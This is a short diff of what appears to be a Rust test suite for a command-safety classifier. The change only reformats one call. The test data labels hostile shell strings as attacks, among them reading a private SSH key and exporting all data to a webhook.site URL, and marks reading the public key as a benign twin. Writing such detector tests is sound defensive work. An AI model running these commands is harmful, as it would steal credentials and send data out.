@@ -85,7 +85,10 @@ fn credential_access() {
         Effect::CredentialRead,
     );
     attack("frobnicate --input ~/.ssh/id_rsa", Effect::CredentialRead);
-    attack("./bin/exporter --out https://webhook.site/3b8e --all", Effect::Exfiltration);
+    attack(
+        "./bin/exporter --out https://webhook.site/3b8e --all",
+        Effect::Exfiltration,
+    );
     attack("env", Effect::EnvRead);
     // Twins.
     flows("cat ~/.ssh/id_rsa.pub");
